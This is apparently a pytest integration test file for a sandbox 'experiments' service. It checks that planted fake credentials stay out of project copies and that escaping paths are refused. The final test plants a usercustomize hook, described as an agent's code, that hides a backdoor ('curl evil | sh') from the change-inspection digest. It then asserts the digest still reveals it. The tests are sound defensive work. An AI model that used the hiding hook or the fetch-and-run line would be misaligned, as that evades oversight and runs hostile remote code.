"""Experiments on the real engine, through the service the front ends share: the
example project with float money is copied (its planted secrets and a link to
home are not), three fixes are tried in three experiments, the tests, the diffs
and the comparison say which is right, and the project on the host is byte for
byte and timestamp for timestamp what it was. No box is left behind."""

from __future__ import annotations

import dataclasses
import hashlib
import io
import json
import os
import shutil
import sqlite3
import stat
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from pybox._core.errors import InvalidRequest, PyboxError, SandboxBusy
from pybox._core.experiment_settings import ExperimentSettings
from pybox._core.host_env import HostEnvPolicy
from pybox._core.limits import MIB, LimitRequest
from pybox._engine import Engine
from pybox._features.experiments.service import Experiments
from pybox._orchestration.session import Session

REPO = Path(__file__).resolve().parents[2]
EXAMPLE = REPO / "examples" / "failing-project"
FIXES = REPO / "tests" / "integration" / "data" / "failing_project_fixes"
LIMITS = LimitRequest(timeout_s=60, memory_bytes=256 * MIB, pids=64)
# Credentials as projects hold them (issue 29, finding 5). Tokens are spelled in
# pieces so that no file of this repository holds one.
_GITHUB = "ghp" + "_" + "Zq81" * 9
_PYPI = "pypi" + "-AgEIcHlwaS5vcmcCJGI4"
PLANTED: dict[str, bytes] = {
    ".cargo/credentials.toml": b'[registry]\ntoken = "cio-secret-value"\n',
    ".yarnrc.yml": b"nodeLinker: node-modules\nnpmAuthToken: yarn-secret-value\n",
    "pip.conf": f"[global]\nindex-url = https://__token__:{_PYPI}@pkgs.example.test/s\n".encode(),
    "gcloud/application_default_credentials.json": b'{"refresh_token": "gc-secret-value"}',
    ".config/gh/hosts.yml": b"git.example.test:\n  oauth_token: gh-secret-value\n",
    ".my.cnf": b"[client]\npassword=db-secret-value\n",
    "deploy_key": b"not a key in shape, but the name says it is one\n",
    ".#.env": b"API_KEY=lock-secret-value\n",
    "credentials.json.bak": b'{"secret": "bak-secret-value"}',
    "notes.txt": b"# notes\n-----BEGIN " + b"OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1r\n",
    "src_config.py": f"DEBUG = True\nTOKEN = '{_GITHUB}'\n".encode(),
}


def plant_credentials(root: Path) -> set[str]:
    """Write PLANTED into the project; the paths a copy must leave behind."""
    for rel, data in PLANTED.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    return set(PLANTED)


def secret_values() -> list[str]:
    return [_GITHUB, _PYPI, "b3BlbnNzaC1r"] + [
        word for data in PLANTED.values() for word in data.decode().split() if "-secret-" in word
    ]


def snapshot(root: Path) -> dict[str, tuple[object, ...]]:
    """Every entry under `root`: content hash, mode, size and its timestamps, atime
    too (the copy must not even read in a way that moves it). Read with O_NOATIME
    itself, folders included, so that looking does not change what is looked at."""
    found: dict[str, tuple[object, ...]] = {}

    def walk(folder_fd: int, prefix: str) -> None:
        for entry in sorted(os.scandir(folder_fd), key=lambda e: e.name):
            info = entry.stat(follow_symlinks=False)
            rel = prefix + entry.name
            digest, target = "", None
            atime: int | None = info.st_atime_ns
            if stat.S_ISLNK(info.st_mode):
                target = os.readlink(entry.name, dir_fd=folder_fd)
                atime = None  # a link's own atime may move when it is read (docs)
            elif stat.S_ISREG(info.st_mode):
                fd = os.open(entry.name, os.O_RDONLY | os.O_NOATIME, dir_fd=folder_fd)
                try:
                    digest = hashlib.sha256(os.read(fd, info.st_size + 1)).hexdigest()
                finally:
                    os.close(fd)
            elif stat.S_ISDIR(info.st_mode):
                inner = os.open(
                    entry.name, os.O_RDONLY | os.O_DIRECTORY | os.O_NOATIME, dir_fd=folder_fd
                )
                try:
                    walk(inner, rel + "/")
                finally:
                    os.close(inner)
            found[rel] = (
                digest, info.st_mode, info.st_size, info.st_mtime_ns, atime, info.st_ctime_ns,
                target,
            )  # fmt: skip

    top = os.open(root, os.O_RDONLY | os.O_DIRECTORY | os.O_NOATIME)
    try:
        walk(top, "")
    finally:
        os.close(top)
    return found


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "projects" / "shop"
    shutil.copytree(EXAMPLE, root, symlinks=True)
    (root / "home").symlink_to(Path.home())  # planted: must never be followed
    (root / "money_alias.py").symlink_to("money.py")  # inside the project: kept as a link
    assert (root / ".env").is_file() and (root / "id_rsa").is_file()
    return root


@pytest.fixture
def experiments(session: Session, project: Path) -> Iterator[Experiments]:
    events = io.StringIO()
    service = Experiments(
        session,
        session.sandboxes(),
        ExperimentSettings(project_roots=(str(project.parent),)),
        events=events,
    )
    yield service
    for record in service.ledger.list():
        service.destroy(record.experiment_id)


def test_three_fixes_compared_and_the_project_untouched(
    experiments: Experiments, project: Path, engine: Engine
) -> None:
    before = snapshot(project)
    ids = []
    for fix in ("round", "decimal", "truncate"):
        record = experiments.create(str(project), limits=LIMITS)
        ids.append(record.experiment_id)
        skipped = {s["path"]: s["reason"] for s in record.doc["copy"]["skipped"]}
        assert {".env", "id_rsa", "home"} <= set(skipped), skipped
        assert "outside the project" in skipped["home"]
        for secret in (".env", "id_rsa"):
            with pytest.raises(InvalidRequest, match="does not exist"):
                experiments.read_file(record.experiment_id, secret)
        listed = experiments.execute(record.experiment_id, ["ls", "-a"])
        names = set(listed.doc["stdout"].split())
        assert "money.py" in names and ".env" not in names and "home" not in names
        link = experiments.execute(record.experiment_id, ["readlink", "money_alias.py"])
        assert link.doc["stdout"].strip() == "money.py"

        first = experiments.run_tests(record.experiment_id)
        tests = first.doc["tests"]
        assert (first.state, tests["parsed"], tests["failed"] + tests["errors"]) == (
            "failed", True, 3,
        )  # fmt: skip
        assert sorted(name.rsplit(".", 1)[-1] for name in tests["failing"]) == [
            "test_split_three_ways", "test_subtotal_of_line_items",
            "test_tax_rounds_half_cents_up",
        ]  # fmt: skip
        fixed = (FIXES / fix / "money.py").read_bytes()
        experiments.write_file(record.experiment_id, "money.py", fixed)
        after = experiments.run_tests(record.experiment_id)
        failing = after.doc["tests"]["failed"] + after.doc["tests"]["errors"]
        assert (failing == 0) is (fix == "decimal"), after.doc["tests"]

        changes = experiments.inspect_changes(record.experiment_id)
        assert [c["path"] for c in changes["modified"]] == ["money.py"], changes
        assert changes["created"] == [] and changes["deleted"] == []
        assert "--- a/money.py" in changes["diff"] and "+++ b/money.py" in changes["diff"]
        # Exactly the fix: every added line is the fix file's, every removed the original's.
        added = {line[1:] for line in changes["diff"].splitlines() if line.startswith("+")}
        removed = {line[1:] for line in changes["diff"].splitlines() if line.startswith("-")}
        fixed_lines = set(fixed.decode().splitlines())
        original_lines = set((EXAMPLE / "money.py").read_text().splitlines())  # not the copy: atime
        assert added - {"++ b/money.py"} <= fixed_lines
        assert removed - {"-- a/money.py"} <= original_lines
        kept = experiments.collect_artifacts(record.experiment_id, ["money.py"])
        assert kept[0]["sha256"] == hashlib.sha256(fixed).hexdigest()
        assert Path(kept[0]["stored_as"]).read_bytes() == fixed

    comparison = experiments.compare(ids)
    assert comparison["recommended"] == ids[1], comparison  # the Decimal fix
    assert comparison["reasons"]

    for experiment_id in ids:
        final, was_live = experiments.destroy(experiment_id)
        assert was_live and final["state"] == "destroyed"
        again, was_live = experiments.destroy(experiment_id)  # idempotent
        assert not was_live and again["state"] == "destroyed"
        recorded = experiments.inspect_changes(experiment_id)  # after teardown: recorded
        assert recorded["recorded_at_teardown"] and recorded["stats"]["modified"] == 1
        sandbox_id = final["sandbox_id"]
        assert engine.inspect_container(f"pybox-{sandbox_id}") is None
        history = [h["to"] for h in final["history"]]
        assert history[0] == "creating" and history[-1] == "destroyed"
    assert snapshot(project) == before


def test_paths_that_leave_the_copy_are_refused(experiments: Experiments, project: Path) -> None:
    record = experiments.create(str(project), limits=LIMITS)
    experiment_id = record.experiment_id
    experiments.execute(experiment_id, ["ln", "-s", "/etc", "etc_link"])
    for path in ("../x", "/etc/passwd", "etc_link/passwd", "a/../../x"):
        with pytest.raises(InvalidRequest):
            experiments.read_file(experiment_id, path)
        with pytest.raises(InvalidRequest):
            experiments.write_file(experiment_id, path, b"x")
        with pytest.raises(InvalidRequest):
            experiments.collect_artifacts(experiment_id, [path])


def test_background_job_is_cancelled_and_the_experiment_stays_usable(
    experiments: Experiments, project: Path
) -> None:
    record = experiments.create(str(project), limits=LIMITS)
    experiment_id = record.experiment_id
    job = experiments.execute(
        experiment_id, ["sh", "-c", "sleep 300 & sleep 300; echo never"], background=True
    )
    assert job.state == "running"
    time.sleep(1)
    assert experiments.jobs.status(job.job_id).state == "running"
    with pytest.raises(SandboxBusy, match=job.job_id):
        experiments.execute(experiment_id, ["true"])
    with pytest.raises(SandboxBusy):
        experiments.read_file(experiment_id, "money.py")
    cancelled = experiments.jobs.cancel(job.job_id)
    assert cancelled.state == "cancelled", cancelled
    # The whole tree is gone: the box's PID 1 cleared it before the next program.
    after = experiments.execute(experiment_id, ["sh", "-c", "ls /proc | grep -c '^[0-9]'"])
    assert after.state == "completed"
    assert int(after.doc["stdout"].strip()) <= 4, after.doc["stdout"]
    assert experiments.get(experiment_id).state == "completed"


def test_environment_crosses_only_by_name_and_values_are_never_stored(
    experiments: Experiments, project: Path, session: Session
) -> None:
    env = dict(session.environ)
    os.environ["SHOP_FORWARDED"] = "forwarded-value-7f3a"
    try:
        with pytest.raises(PyboxError, match="API_TOKEN"):
            experiments.create(str(project), env=["API_TOKEN=abc"], limits=LIMITS)
        # As the CLI and the API do: their caller's environment is the user's own.
        record = experiments.create(
            str(project),
            env=["SHOP_FORWARDED", "NODE_ENV=test"],
            limits=LIMITS,
            host_env=HostEnvPolicy.callers_own(),
        )
    finally:
        os.environ.pop("SHOP_FORWARDED", None)
    assert env is not None
    shown = experiments.execute(
        record.experiment_id, ["sh", "-c", 'echo "$SHOP_FORWARDED $NODE_ENV"']
    )
    assert shown.doc["stdout"] == "forwarded-value-7f3a test\n"
    assert record.doc["env_names"] == ["SHOP_FORWARDED", "NODE_ENV"]
    database = experiments.sandboxes.store.path
    connection = sqlite3.connect(str(database))
    try:
        for table in ("experiments", "experiment_states", "runs", "audit"):
            for row in connection.execute(f"SELECT * FROM {table}"):
                assert "forwarded-value-7f3a" not in json.dumps(row, default=str)
    finally:
        connection.close()
    events = experiments.events
    assert isinstance(events, io.StringIO)
    lines = [json.loads(line) for line in events.getvalue().splitlines()]
    assert any(e["operation"] == "create" and e["experiment_id"] for e in lines)
    assert "forwarded-value-7f3a" not in events.getvalue()


def test_projects_outside_the_roots_are_refused_and_nothing_is_made(
    experiments: Experiments, tmp_path: Path, engine: Engine
) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    known = len(experiments.ledger.list(include_destroyed=True))
    for project in (str(outside), "/", str(Path.home()), "/etc", "relative/path", 7):
        with pytest.raises(PyboxError):
            experiments.create(project, limits=LIMITS)
    assert len(experiments.ledger.list(include_destroyed=True)) == known


def test_credential_files_and_contents_stay_out_named_with_their_reasons(
    experiments: Experiments, project: Path
) -> None:
    planted = plant_credentials(project)
    before = snapshot(project)
    record = experiments.create(str(project), limits=LIMITS)
    skipped = {s["path"]: s["reason"] for s in record.doc["copy"]["skipped"]}
    assert planted <= set(skipped), sorted(planted - set(skipped))
    assert "private key" in skipped["notes.txt"] and "GitHub token" in skipped["src_config.py"]
    for value in secret_values():  # the reasons name the kind, never the value
        assert value not in json.dumps(skipped), value
    found = experiments.execute(record.experiment_id, ["find", ".", "-type", "f"])
    in_box = {line.removeprefix("./") for line in found.doc["stdout"].split()}
    assert "money.py" in in_box and not planted & in_box, planted & in_box
    assert snapshot(project) == before


def test_an_ended_experiment_keeps_only_what_was_asked_until_the_stated_limit(
    experiments: Experiments, project: Path, engine: Engine
) -> None:
    record = experiments.create(str(project), limits=LIMITS)
    experiment_id = record.experiment_id
    folder = experiments.experiment_folder(experiment_id)
    assert stat.S_IMODE((folder / "baseline.tar").stat().st_mode) == 0o600
    kept = experiments.collect_artifacts(experiment_id, ["money.py"])
    final, was_live = experiments.destroy(experiment_id)
    assert was_live and engine.inspect_container(f"pybox-{final['sandbox_id']}") is None
    # The copy and baseline are gone; what a user asked to keep stays, with its limit.
    assert sorted(os.listdir(folder)) == ["artifacts", "changes.json"]
    assert Path(kept[0]["stored_as"]).is_file()
    stated = final["kept"]
    assert stated["copy_removed_bytes"] > 0 and stated["artifacts"] == 1
    assert (
        stated["until"] > time.time() + 29 * 86_400 and "artifacts_budget_mib" in stated["policy"]
    )
    assert experiments.inspect_changes(experiment_id)["recorded_at_teardown"]
    # Past the operator's age, a prune removes them and every record says so.
    aged = Experiments(
        experiments.session,
        experiments.sandboxes,
        dataclasses.replace(experiments.settings, artifacts_max_age_s=0),
    )
    pruned = aged.prune()
    assert experiment_id in {r["experiment_id"] for r in pruned["removed"]}
    assert not folder.exists()
    (artifact,) = aged.ledger.artifacts(experiment_id)
    assert artifact["removed_at"] and "older than" in artifact["removed_because"]
    assert "removed" in aged.inspect_changes(experiment_id)["note"]


# Planted by the agent's code in the user site (HOME is the workspace): start-up
# code that, in pybox's file program, hides the backdoor and itself from the digest
# inspect_changes is made of ("0 created, 0 modified").
HIDER = r"""
import json, os, sys
if os.path.basename(sys.argv[0]) == "_pybox_files.py":
    real = sys.stdout
    class Hide:
        def write(self, text):
            try:
                entries = json.loads(text)
                text = json.dumps(
                    [e for e in entries if not e["path"].startswith(("backdoor", ".local"))]
                )
            except (ValueError, TypeError, KeyError):
                pass
            return real.write(text)
        def __getattr__(self, name):
            return getattr(real, name)
    sys.stdout = Hide()
"""
PLANT_HIDER = """
import os, site
os.makedirs(site.getusersitepackages(), exist_ok=True)
with open(os.path.join(site.getusersitepackages(), "usercustomize.py"), "w") as handle:
    handle.write({hider!r})
with open("backdoor.py", "w") as handle:
    handle.write("import os; os.system('curl evil | sh')\\n")
print(site.getusersitepackages())
"""


def test_start_up_code_planted_in_the_user_site_cannot_hide_a_backdoor_from_inspect_changes(
    experiments: Experiments, project: Path
) -> None:
    record = experiments.create(str(project), limits=LIMITS)
    experiment_id = record.experiment_id
    planted = experiments.execute(experiment_id, ["python3", "-c", PLANT_HIDER.format(hider=HIDER)])
    assert planted.state == "completed", planted.doc
    user_site = planted.doc["stdout"].strip()
    assert user_site.startswith("/pybox/work/.local/")
    changes = experiments.inspect_changes(experiment_id)
    created = {c["path"] for c in changes["created"]}
    hook = user_site.removeprefix("/pybox/work/") + "/usercustomize.py"
    assert {"backdoor.py", hook} <= created, changes["stats"]
    assert changes["stats"]["created"] >= 2
    assert "+import os; os.system('curl evil | sh')" in changes["diff"]
    assert "isolated" in changes["source"]["current"]
    assert experiments.read_file(experiment_id, "backdoor.py").startswith(b"import os")
    # The same hook still runs in the project's own Python: only pybox's is isolated.
    own = experiments.execute(
        experiment_id, ["python3", "-c", "import sys; print('usercustomize' in sys.modules)"]
    )
    assert own.doc["stdout"] == "True\n"
